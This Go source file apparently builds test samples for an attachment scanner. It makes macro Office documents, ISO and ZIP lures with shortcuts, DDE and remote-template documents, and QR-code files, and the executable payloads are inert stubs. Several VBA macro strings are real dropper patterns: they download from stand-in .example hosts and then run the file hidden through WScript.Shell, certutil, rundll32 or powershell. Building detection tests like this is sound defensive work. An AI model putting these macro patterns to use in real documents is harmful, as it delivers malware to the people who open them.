package kinds

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"regexp"
	"strconv"
	"strings"

	"tocsin/internal/scan/scantest"
)

// build makes a file. args are the words behind the builder's name.
func build(builder, args, content string) (b []byte, media string, err error) {
	first, rest, _ := strings.Cut(args, " ")
	switch builder {
	case "text":
		text, err := fillIn(content)
		if args == "" {
			args = "application/octet-stream"
		}
		return []byte(text), args, err
	case "picture":
		return scantest.PNG(photo()), "image/png", nil
	case "pdf-text":
		var p scantest.PDF
		p.Page("", args)
		return p.Bytes(), "application/pdf", nil
	case "zip":
		return scantest.Zip(scantest.Entry{Name: args, Data: string(harmless(args))}), "application/zip", nil
	case "zip-encrypted", "zip-aes":
		return scantest.LockedZip(first, builder == "zip-aes", scantest.Entry{Name: rest, Data: string(harmful(rest))}), "application/zip", nil
	case "iso-file":
		return scantest.ISO(scantest.Entry{Name: args, Data: string(harmful(args))}), "application/octet-stream", nil
	case "iso-lnk", "zip-iso-lnk":
		target, arguments, _ := strings.Cut(rest, " ")
		iso := scantest.ISO(scantest.Entry{Name: first, Data: string(scantest.LNK(target, arguments, `C:\Program Files\Adobe\Acrobat.exe`))})
		if builder == "iso-lnk" {
			return iso, "application/octet-stream", nil
		}
		return scantest.Zip(scantest.Entry{Name: "documents.iso", Data: string(iso)}), "application/zip", nil
	}
	switch builder {
	case "pdf-lines": // LINE|LINE
		var p scantest.PDF
		p.Page("", strings.Split(args, "|")...)
		return p.Bytes(), "application/pdf", nil
	case "pdf-link": // URL LINE|LINE, the whole page is the link
		var p scantest.PDF
		n := p.Link(first, 60, 500, 540, 740)
		p.Page(fmt.Sprintf("/Annots [%d 0 R]", n), strings.Split(rest, "|")...)
		return p.Bytes(), "application/pdf", nil
	case "docx-text": // PARAGRAPH|PARAGRAPH
		var b strings.Builder
		for _, p := range strings.Split(args, "|") {
			b.WriteString(scantest.Paragraph(p))
		}
		return scantest.DOCX(b.String()), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", nil
	case "zip-of":
		return scantest.Zip(entries(args)...), "application/zip", nil
	case "iso-of":
		return scantest.ISO(entries(args)...), "application/x-iso9660-image", nil
	case "zip-iso-of": // NAME-OF-IMAGE FILE|FILE
		return scantest.Zip(scantest.Entry{Name: first, Data: string(scantest.ISO(entries(rest)...))}), "application/zip", nil
	case "lock-of", "lock-aes-of": // PASSWORD FILE|FILE
		return scantest.LockedZip(first, builder == "lock-aes-of", entries(rest)...), "application/zip", nil
	case "lock-iso-of": // PASSWORD NAME-OF-IMAGE FILE|FILE
		name, files, _ := strings.Cut(rest, " ")
		return scantest.LockedZip(first, true, scantest.Entry{Name: name, Data: string(scantest.ISO(entries(files)...))}), "application/zip", nil
	case "onenote": // FILE|FILE
		return scantest.OneNote(entries(args)...), "application/onenote", nil
	}
	if strings.HasPrefix(builder, "qr-") {
		return buildCode(strings.TrimPrefix(builder, "qr-"), strings.ReplaceAll(args, `\n`, "\n"))
	}
	return buildDocument(builder, args)
}

func buildCode(how, text string) ([]byte, string, error) {
	q := scantest.NewQR(text)
	switch how {
	case "png":
		return scantest.PNG(q.Draw(scantest.Picture{})), "image/png", nil
	case "jpg":
		return scantest.JPEG(q.Draw(scantest.Picture{})), "image/jpeg", nil
	case "gif":
		return scantest.GIF(q.Draw(scantest.Picture{})), "image/gif", nil
	case "blue":
		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{20, 60, 160, 255}, color.NRGBA{250, 245, 220, 255})), "image/png", nil
	case "inverted":
		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{255, 255, 255, 255}, color.NRGBA{0, 0, 0, 255})), "image/png", nil
	case "logo":
		return scantest.PNG(q.Draw(scantest.Picture{Scale: 6, Logo: true})), "image/png", nil
	case "turned":
		return scantest.PNG(q.Draw(scantest.Picture{Scale: 6, Turn: 7})), "image/png", nil
	case "photo":
		return scantest.JPEG(q.Draw(scantest.Picture{Scale: 5, Noise: true})), "image/jpeg", nil
	case "letter": // URL|LINE|LINE: a page of text with the code below
		url, lines, _ := strings.Cut(text, "|")
		var p scantest.PDF
		n := p.Picture(scantest.NewQR(url).Draw(scantest.Picture{}), "rgb")
		var b strings.Builder
		b.WriteString("BT /F1 11 Tf 72 760 Td 15 TL\n")
		for _, l := range strings.Split(lines, "|") {
			fmt.Fprintf(&b, "(%s) Tj T*\n", strings.NewReplacer("(", "\\(", ")", "\\)").Replace(l))
		}
		b.WriteString("ET\n")
		p.PageOf("", fmt.Sprintf("/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /P %d 0 R >>", n), b.String()+"q 180 0 0 180 72 380 cm /P Do Q")
		return p.Bytes(), "application/pdf", nil
	case "pdf":
		var p scantest.PDF
		n := p.Picture(q.Draw(scantest.Picture{}), "gray")
		p.PageOf("", fmt.Sprintf("/XObject << /P %d 0 R >>", n), "q 300 0 0 300 100 300 cm /P Do Q")
		return p.Bytes(), "application/pdf", nil
	}
	return nil, "", fmt.Errorf("no way %q to draw a code", how)
}

func recolour(img *image.NRGBA, dark, light color.NRGBA) *image.NRGBA {
	b := img.Bounds()
	for y := b.Min.Y; y < b.Max.Y; y++ {
		for x := b.Min.X; x < b.Max.X; x++ {
			if img.NRGBAAt(x, y).R < 128 {
				img.SetNRGBA(x, y, dark)
			} else {
				img.SetNRGBA(x, y, light)
			}
		}
	}
	return img
}

// photo is a picture without a code: a soft gradient with shapes.
func photo() image.Image {
	img := image.NewNRGBA(image.Rect(0, 0, 320, 200))
	for y := range 200 {
		for x := range 320 {
			img.SetNRGBA(x, y, color.NRGBA{uint8(x * y / 251), uint8(y), uint8(200 - x/2), 255})
		}
	}
	return img
}

// entries reads "FILE|FILE"; a shortcut is "NAME.lnk=TARGET ARGUMENTS". Names of programs and scripts hold what harmful writes.
func entries(args string) (out []scantest.Entry) {
	for _, a := range strings.Split(args, "|") {
		name, how, ok := strings.Cut(a, "=")
		data := harmful(name)
		if ok {
			target, arguments, _ := strings.Cut(how, " ")
			data = scantest.LNK(target, arguments, `%SystemRoot%\System32\imageres.dll`)
		}
		out = append(out, scantest.Entry{Name: name, Data: string(data)})
	}
	return out
}

// bodies are what macros do, for the builders that end in "-with".
var bodies = map[string]string{
	"shell":    "\tDim p\r\n\tp = Environ(\"PUBLIC\") & \"\\note.cmd\"\r\n\tShell \"cmd /c start /min \" & p, vbHide\r\n",
	"chr":      "\tDim k\r\n\tk = Chr(87) & Chr(83) & \"cript\" & Chr(46) & StrReverse(\"llehS\")\r\n\tCreateObject(k).Run StrReverse(\"exe.athsm\") & \" https://cdn-docs.example/a\", 0\r\n",
	"wmi":      "\tSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\n\tw.Create \"rundll32 \" & Environ(\"APPDATA\") & \"\\lib.dat,Start\"\r\n",
	"stream":   "\tSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n\th.Open \"GET\", \"https://invoice-assets.example/p.txt\", False\r\n\th.Send\r\n\tSet a = CreateObject(\"ADODB.Stream\")\r\n\ta.Type = 1: a.Open: a.Write h.ResponseBody\r\n\ta.SaveToFile Environ(\"TEMP\") & \"\\p.exe\", 2\r\n\tCreateObject(\"Shell.Application\").ShellExecute Environ(\"TEMP\") & \"\\p.exe\"\r\n",
	"cells":    "\tDim c, t\r\n\tFor Each c In ActiveDocument.Variables\r\n\t\tt = t & Chr(Asc(c.Value) Xor 7)\r\n\tNext\r\n\tCreateObject(\"WScript.Shell\").Exec t\r\n",
	"certutil": "\tShell \"certutil -urlcache -f https://static-forms.example/f.txt %TEMP%\\f.exe\", 0\r\n\tShell Environ(\"TEMP\") & \"\\f.exe\", 0\r\n",
	"pivot":    "\tDim p As PivotTable\r\n\tFor Each p In Worksheets(\"Report\").PivotTables\r\n\t\tp.RefreshTable\r\n\tNext\r\n",
	"sheet":    "\tWorksheets(\"Input\").Activate\r\n\tRange(\"B4\").Select\r\n",
	"export":   "\tActiveSheet.ExportAsFixedFormat Type:=xlTypePDF, Filename:=ThisWorkbook.Path & \"\\timesheet.pdf\"\r\n",
	"fields":   "\tDim f\r\n\tFor Each f In ActiveDocument.Fields\r\n\t\tf.Update\r\n\tNext\r\n",
	"totals":   "\tDim r As Long, t As Currency\r\n\tFor r = 5 To 60\r\n\t\tt = t + Cells(r, 4).Value\r\n\tNext\r\n\tCells(62, 4).Value = t\r\n\tMsgBox \"Total: \" & Format(t, \"0.00\")\r\n",
}

const (
	runs = `
	Dim s, f
	Set s = CreateObject("WScript.Shell")
	f = Environ("TEMP") & "\update.exe"
	With CreateObject("MSXML2.XMLHTTP")
		.Open "GET", "https://files-update.example/x.bin", False
		.Send
	End With
	s.Run "powershell -w hidden -nop -c " & f, 0
`
	formats = `
	Range("A1:C20").Sort Key1:=Range("A1")
	Selection.Font.Bold = True
`
)

func module(name, proc, body string) scantest.Module {
	return scantest.Module{Name: name, Source: "Attribute VB_Name = \"" + name + "\"\r\nSub " + proc + "()\r\n" + body + "End Sub\r\n"}
}

func buildDocument(builder, args string) ([]byte, string, error) {
	docm := func(proc, body string) []byte { return scantest.DOCM(nil, module("ThisDocument", proc, body)) }
	xlsm := func(proc, body string) []byte {
		return scantest.XLSX("", scantest.Entry{Name: "xl/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, module("ThisWorkbook", proc, body))...))})
	}
	if how, ok := strings.CutSuffix(builder, "-with"); ok { // BODY PROCEDURE
		name, proc, _ := strings.Cut(args, " ")
		body, ok := bodies[name]
		if !ok {
			return nil, "", fmt.Errorf("no macro %q", name)
		}
		switch how {
		case "docm":
			return docm(proc, body), "application/vnd.ms-word.document.macroEnabled.12", nil
		case "xlsm":
			return xlsm(proc, body), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
		case "zip-xlsm":
			return scantest.Zip(scantest.Entry{Name: "document.xlsm", Data: string(xlsm(proc, body))}), "application/zip", nil
		case "doc":
			s := append(scantest.VBA("Macros/", nil, module("ThisDocument", proc, body)), scantest.Stream{Path: "WordDocument", Data: make([]byte, 4096)})
			return scantest.OLE(s...), "application/msword", nil
		case "xls":
			s := append(scantest.VBA("_VBA_PROJECT_CUR/", nil, module("ThisWorkbook", proc, body)), scantest.Stream{Path: "Workbook", Data: scantest.Record(0x809, 0, 6, 5, 0)})
			return scantest.OLE(s...), "application/vnd.ms-excel", nil
		}
	}
	switch builder {
	case "docx":
		return scantest.DOCX(scantest.Paragraph("Dear reader, please find the report below.")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", nil
	case "xlsx":
		return scantest.XLSX(""), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", nil
	case "docm-auto":
		return docm(args, runs), "application/vnd.ms-word.document.macroEnabled.12", nil
	case "docm-plain":
		return docm(args, formats), "application/vnd.ms-word.document.macroEnabled.12", nil
	case "xlsm-auto":
		return xlsm(args, runs), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
	case "xlsm-plain":
		return xlsm(args, formats), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
	case "zip-docm-auto":
		return scantest.Zip(scantest.Entry{Name: args, Data: string(docm("AutoOpen", runs))}), "application/zip", nil
	case "doc-auto":
		s := append(scantest.VBA("Macros/", nil, module("ThisDocument", args, runs)), scantest.Stream{Path: "WordDocument", Data: make([]byte, 4096)})
		return scantest.OLE(s...), "application/msword", nil
	case "xls-auto":
		s := append(scantest.VBA("_VBA_PROJECT_CUR/", nil, module("ThisWorkbook", args, runs)), scantest.Stream{Path: "Workbook", Data: scantest.Record(0x809, 0, 6, 5, 0)})
		return scantest.OLE(s...), "application/vnd.ms-excel", nil
	case "docx-template":
		return scantest.DOCX(scantest.Paragraph("Loading."), scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: args, External: true})), "application/octet-stream", nil
	case "docx-dde":
		return scantest.DOCX(scantest.Field("DDE", "AUTO c:\\\\windows\\\\", "system32\\\\", args)), "application/octet-stream", nil
	}
	return nil, "", fmt.Errorf("no builder %q", builder)
}

// harmful is what a file with such a name would hold in an attack: nothing that works.
func harmful(name string) []byte {
	switch ext := name[strings.LastIndexByte(name, '.')+1:]; ext {
	case "exe", "dll", "scr", "pif":
		return append([]byte("MZ\x90\x00\x03"), bytes.Repeat([]byte{0}, 800)...)
	case "bat", "cmd", "ps1":
		return []byte("rem a sample, it does nothing\r\n")
	case "js", "jse", "vbs", "wsf", "hta":
		return []byte("var s = new ActiveXObject('WScript.Shell'); // a sample, it does nothing\r\n")
	case "lnk":
		return scantest.LNK("cmd.exe", "/c echo", "")
	case "iso":
		return scantest.ISO(scantest.Entry{Name: "a.exe", Data: string(harmful("a.exe"))})
	}
	return harmless(name)
}

func harmless(name string) []byte {
	switch {
	case strings.HasSuffix(name, ".svg"):
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="3" height="4"/></svg>`)
	case strings.HasSuffix(name, ".png"):
		return scantest.PNG(photo())
	case strings.HasSuffix(name, ".docx"):
		return scantest.DOCX(scantest.Paragraph("Working papers"))
	case strings.HasSuffix(name, ".pdf"):
		var p scantest.PDF
		p.Page("", "Pay slip")
		return p.Bytes()
	}
	return []byte("day;value\r\n1;20\r\n2;21\r\n")
}

var holes = regexp.MustCompile(`\{(zip:\d|zip|png|b64:[^}]*|table:[^}]*|divs:[^}]*)\}`)

// fillIn exchanges the holes of a text: {zip} for a small zip with a program in base64, {zip:1} to {zip:3} for a third of it, {png} for a
// picture, {b64:TEXT} for the base64 of a text, {table:URL} and {divs:URL} for a QR code as an HTML table and as boxes.
func fillIn(text string) (string, error) {
	packed := base64.StdEncoding.EncodeToString(scantest.Zip(scantest.Entry{Name: "run.exe", Data: string(harmful("run.exe"))}))
	return holes.ReplaceAllStringFunc(text, func(h string) string {
		what, arg, _ := strings.Cut(strings.Trim(h, "{}"), ":")
		switch what {
		case "zip":
			if n, err := strconv.Atoi(arg); err == nil {
				third := len(packed) / 3
				return []string{packed[:third], packed[third : 2*third], packed[2*third:]}[n-1]
			}
			return packed
		case "png":
			return base64.StdEncoding.EncodeToString(scantest.PNG(photo()))
		case "b64":
			return base64.StdEncoding.EncodeToString([]byte(arg))
		case "divs":
			return scantest.NewQR(arg).Divs(true)
		}
		return scantest.NewQR(arg).Table("bgcolor")
	}), nil
}

// drawCode draws a QR code with characters.
func drawCode(how, text string) string {
	if how == "half-blocks" {
		return scantest.NewQR(text).HalfBlocks(false)
	}
	return scantest.NewQR(text).Text("██", "  ")
}
